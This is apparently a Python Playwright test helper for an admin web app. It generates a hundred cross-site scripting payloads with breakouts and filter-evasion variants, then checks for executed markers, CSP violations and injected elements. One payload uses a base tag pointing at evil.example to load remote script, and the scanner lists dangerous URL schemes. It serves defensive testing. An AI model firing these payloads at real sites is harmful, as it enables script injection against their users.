"""A hundred pieces of text that become code on a page which does not escape, and the ways to see that they did."""

from typing import Any

from playwright.sync_api import BrowserContext, Page

VECTORS = (
    "<script>ran({n})</script>",
    "<img src=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<input autofocus onfocus=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart=ran({n})>",
    "<a href=javascript:ran({n})>click</a>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
)
BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->")
ODD = (
    '" autofocus onfocus=ran({n}) x="',
    "' autofocus onfocus=ran({n}) x='",
    '"onmouseover=ran({n})//',
    "` onfocus=ran({n}) autofocus x=`",
    "javascript:ran({n})",
    "java\tscript:ran({n})",
    "data:text/html,<script>parent.ran({n})</script>",
    "';ran({n});//",
    '";ran({n});//',
    "\\';ran({n});//",
    "</script><script>ran({n})</script>",
    "<ScRiPt>ran({n})</sCrIpT>",
    "<scr<script>ipt>ran({n})</scr</script>ipt>",
    "<math><mtext><img src=x onerror=ran({n})>",
    "<svg><style><img src=x onerror=ran({n})></style>",
    "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
    "<base href=//evil.example><script src=x{n}.js></script>",
    "{{{{ cycler.__init__.__globals__.os }}}}<img src=x onerror=ran({n})>",
    "%3Cscript%3Eran({n})%3C/script%3E&lt;script&gt;ran({n})&lt;/script&gt;",
    "\u202e<img\u00a0src=x onerror=ran({n})>\ufeff<img src=x onerror=ran({n})>",
)
PAYLOADS = [
    text.format(n=number)
    for number, text in enumerate([*(f"{out}{vector}" for out in BREAKOUTS for vector in VECTORS), *ODD])
]
assert len(PAYLOADS) == 100


def payload(number: int) -> str:
    """The one with this number, round and round."""
    return PAYLOADS[number % len(PAYLOADS)]


WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
  window.violated(`${event.violatedDirective} ${event.blockedURI} ${event.sample} on ${location.href}`);
});"""

STRANGE = """(page) => {
  const found = [];
  const risky = ["href", "src", "action", "formaction", "data", "xlink:href"];
  const code = /^\\s*(javascript|vbscript|data:text)/i;
  const isOurs = (address) => new URL(address, location.origin).origin === location.origin;
  for (const element of (page || document).querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || name === "srcdoc" || name === "style") found.push(`${element.tagName} ${name}`);
      const isCode = code.test(value.replace(/[\\t\\r\\n]/g, ""));
      if (isCode && risky.includes(name) && element.tagName !== "INPUT") found.push(`${name} ${value}`);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "STYLE", "VIDEO", "MATH", "ANIMATE"].includes(element.tagName))
      found.push(element.outerHTML.slice(0, 80));
    if (element.tagName === "META" && element.httpEquiv) found.push("meta refresh");
    if (element.tagName === "SCRIPT" && !/^\\/admin\\/assets\\//.test(element.getAttribute("src") || ""))
      found.push(element.outerHTML.slice(0, 80));
    if (element.tagName === "FORM" && !isOurs(element.getAttribute("action") || "")) found.push("form to elsewhere");
    if (element.tagName === "IMG" && !/^(data:image|\\/admin\\/)/.test(element.getAttribute("src"))) found.push("IMG");
  }
  return found.map((text) => `${text} on ${location.href}`);
}"""
"""Elements and attributes that no template of ours writes."""


class Watch:
    """What ran, what the policy stopped, and what strange elements stood on the pages of a browser context."""

    def __init__(self, context: BrowserContext) -> None:
        self.ran: set[int] = set()
        self.violated: list[str] = []
        self.strange: list[str] = []
        context.expose_binding("ran", lambda source, number: self.ran.add(number))
        context.expose_binding("violated", lambda source, text: self.violated.append(text))
        context.add_init_script(WATCH)
        context.on("dialog", lambda dialog: (self.ran.add(-1), dialog.dismiss()))

    def look(self, page: Page) -> None:
        """Note what does not belong on this page."""
        self.strange += page.evaluate(STRANGE)

    def found(self) -> dict[str, Any]:
        """Everything that should not have been; empty is good."""
        found = {"ran": sorted(self.ran), "violated": self.violated[:10], "strange": self.strange[:10]}
        return {name: value for name, value in found.items() if value}
